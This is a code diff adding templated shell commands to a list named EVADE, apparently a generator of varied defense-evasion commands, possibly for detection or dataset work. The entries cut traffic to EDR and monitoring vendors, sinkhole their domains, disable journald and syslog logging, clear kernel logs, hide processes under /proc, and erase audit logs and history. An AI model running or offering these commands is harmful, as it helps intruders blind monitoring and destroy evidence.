@@ -199,4 +199,12 @@ EVADE = [
     '‹sudo ¦›rm -rf /var/log/‹system.log¦install.log¦wifi.log› ‹/var/audit/*¦/private/var/audit/2*¦/var/audit/{n}*›',
     'if [ -d /var/audit ]; then ‹sudo ¦›‹rm -rf¦srm› /var/audit/‹*¦current›; fi; ‹sudo ¦›‹log erase --all¦rm -f /var/log/asl/*.asl›',
     "unset HISTFILE; shopt -ou history; set +o history; ‹ln -sf /dev/null ~/.bash_history¦HISTCONTROL=ignoreboth:erasedups; HISTIGNORE='*'›",
+    "for h in ‹falcon.crowdstrike.com ts01-b.cloudsink.net¦agent.datadoghq.com intake.logs.datadoghq.com¦api.sysdig.com app.lacework.net›; do for a in $(‹dig +short $h¦getent ahostsv4 $h | awk '{print $1}' | sort -u›); do ‹ip route add ‹blackhole¦unreachable› $a¦nft add rule inet filter output ip daddr $a drop¦iptables -I OUTPUT -d $a -j REJECT›; done; done",
+    "echo 'address=/‹crowdstrike.com¦falco.org¦wazuh.com¦sentinelone.net›/‹0.0.0.0¦127.0.0.1›' >> /etc/dnsmasq.d/{plain}.conf; ‹killall -HUP dnsmasq¦systemctl restart dnsmasq›",
+    "sed -i 's/^#\\?Storage=.*/Storage=none/; s/^#\\?ForwardToSyslog=.*/ForwardToSyslog=no/' /etc/systemd/journald.conf; systemctl restart systemd-journald; rm -rf /var/log/journal/*",
+    'echo \'filter {plain} { not ‹host("{ip}")¦message("{plain}")¦program("sshd")›; };\' >> /etc/syslog-ng/‹conf.d/{plain}.conf¦syslog-ng.conf›; pkill -HUP syslog-ng',
+    '‹cat <<\'R\' > /etc/rsyslog.d/00-{plain}.conf\n:msg, contains, "{ip}" ~\n:programname, isequal, "{plain}" stop\nR¦echo \':fromhost-ip, isequal, "{ip}" stop\' > /etc/rsyslog.d/01-{plain}.conf›\n‹service rsyslog restart¦systemctl restart rsyslog¦kill -HUP $(pidof rsyslogd)›',
+    "echo 0 > /sys/kernel/debug/tracing/tracing_on; echo > /sys/kernel/debug/tracing/set_event; ‹dmesg -n 1¦sysctl -w kernel.printk='0 0 0 0'›; ‹dmesg -C¦{file} &›",
+    'mkdir ‹{tmp}/.{name}¦/dev/shm/.e›; {file} & p=$!; mount ‹--bind¦-o bind› ‹{tmp}/.{name}¦/dev/shm/.e› /proc/$p; ‹chattr +i {file}¦disown¦rm -f {file}›',
+    'choom -n -1000 -p $$; ‹chrt -i 0 ¦ionice -c3 nice -n 19 ¦›{file} ‹-c {tmp}/.{name}.json ¦›>/dev/null 2>&1 &',
 ]
